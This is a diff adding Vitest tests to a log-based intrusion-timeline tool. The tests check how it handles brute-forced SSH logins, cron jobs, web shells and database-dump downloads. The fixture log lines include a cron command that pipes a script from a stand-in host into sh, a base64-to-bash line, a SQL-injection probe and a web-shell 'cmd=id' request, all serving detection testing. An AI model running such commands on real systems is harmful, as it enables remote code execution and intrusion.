@@ -1,4 +1,4 @@
-import { expect, test } from 'vitest';
+import { describe, expect, it, test } from 'vitest';
 import { buildTimeline } from '../../src/timeline/build.ts';
 import type { OwnAssets, Timeline } from '../../src/timeline/types.ts';
 
@@ -51,6 +51,27 @@ test('every dated record is behind exactly one event', () => {
   expect(receipt.duplicatesCollapsed).toBe(INTRUSION.length - events.length);
 });
 
+describe('a severe job that runs every minute after a guessed login', () => {
+  const word = (i: number) => [...String(i)].map((digit) => 'abcdefghij'[Number(digit)]).join('');
+  const time = (minute: number) => new Date(Date.UTC(2026, 10, 19, 8, minute)).toISOString().slice(0, 19);
+  it.each([
+    ['the same each time', () => '(root) CMD (curl -fsSL http://pool.example.net/x.sh | sh)'],
+    ['other words each time', (i: number) => `(www-data) CMD (echo ${word(i)} | base64 -d | bash)`],
+    ['a table that is replaced', () => '(root) REPLACE (root)'],
+  ])('leaves the login first among the ways in: %s', (_, job) => {
+    const { initialAccess, events } = timelineOf([
+      ...Array.from({ length: 6 }, (_, i) => failure(1 + 3 * i)),
+      '2026-11-19T08:20:00Z web1 sshd[901]: Accepted password for root from 203.0.113.9 port 4999 ssh2',
+      ...Array.from({ length: 900 }, (_, i) => `${time(30 + i)}Z web1 CRON[${2000 + i}]: ${job(i)}`),
+    ]);
+    expect(initialAccess[0]).toMatchObject({ line: 7 });
+    expect(initialAccess[0]?.why).toContain('after 6 failures');
+    // It turned the story once, not nine hundred times.
+    expect(events.filter((event) => event.isTurn).length).toBeLessThan(4);
+    expect(events.reduce((sum, event) => sum + event.count, 0)).toBe(907);
+  });
+});
+
 const request = (minute: number, ip: string, what: string, status: number): string =>
   `${ip} - - [19/Nov/2026:09:${two(minute)}:00 +0000] "${what} HTTP/1.1" ${status} 120 "-" "Mozilla/5.0"`;
 
@@ -66,6 +87,59 @@ test('a web shell is found among a scan, and a change after the scan is a turn',
   expect(events[0]?.lines).toEqual([17]);
   expect(initialAccess[0]).toMatchObject({ line: 17 });
   expect(events.find((event) => event.lines[0] === 16)?.reasons[0]).toContain('after 15 refused requests');
+});
+
+describe('an archive, backup or database that goes out', () => {
+  const fetched = (minute: number, ip: string, path = '/files/shop.sql.gz', status = 200) =>
+    `${ip} - - [19/Nov/2026:09:${two(minute)}:00 +0000] "GET ${path} HTTP/1.1" ${status} 48731204 "-" "Wget/1.24.5"`;
+  const taken = (lines: readonly string[]) =>
+    timelineOf(lines).events.find((event) => event.detections?.includes('archive-fetched'));
+  const everyday = Array.from({ length: 12 }, (_, i) => request(i, `198.51.100.${20 + (i % 4)}`, 'GET /', 200));
+
+  it.each([
+    [
+      'somebody who guessed at many pages',
+      Array.from({ length: 9 }, (_, i) => request(i, '192.0.2.44', `GET /x${i}`, 404)),
+      /acted suspiciously before/,
+    ],
+    [
+      'somebody whose exploit was refused',
+      [request(1, '192.0.2.44', 'GET /?q=1%20union%20select%201,2', 403)],
+      /acted suspiciously before/,
+    ],
+    [
+      'an address that came after a web shell was used by another',
+      [request(1, '203.0.113.9', 'GET /uploads/a.php?cmd=id', 200)],
+      /first came after an exploit/,
+    ],
+  ])('to %s is possible theft', (_, before, why) => {
+    const event = taken([
+      ...everyday,
+      ...before,
+      fetched(30, '192.0.2.44'),
+      fetched(31, '192.0.2.44', '/files/users.sql.gz'),
+    ]);
+    expect(event).toMatchObject({ severity: 7, phase: 'theft', count: 2, isTurn: true });
+    expect(event?.reasons[0]).toMatch(why);
+    expect(event?.reasons[0]).toContain('(48.7 MB)');
+    expect(event?.techniques.slice(0, 2)).toEqual([
+      { id: 'T1048', certainty: 'possible' },
+      { id: 'T1567', certainty: 'possible' },
+    ]);
+  });
+
+  it.each([
+    ['anybody on an everyday server', []],
+    [
+      'a known visitor, though somebody else used a web shell',
+      [request(1, '192.0.2.44', 'GET /', 200), request(2, '203.0.113.9', 'GET /uploads/a.php?cmd=id', 200)],
+    ],
+    ['nobody, because it was refused', [request(1, '192.0.2.44', 'GET /?q=1%20union%20select%201,2', 403)]],
+  ])('to %s is everyday', (who, before) => {
+    const status = who.startsWith('nobody') ? 404 : 200;
+    const { events } = timelineOf([...everyday, ...before, fetched(30, '192.0.2.44', '/files/shop.zip', status)]);
+    expect(events.find((event) => event.message.includes('shop.zip'))?.severity).toBeLessThan(5);
+  });
 });
 
 test('a candidate at the very beginning says that the log may start too late', () => {
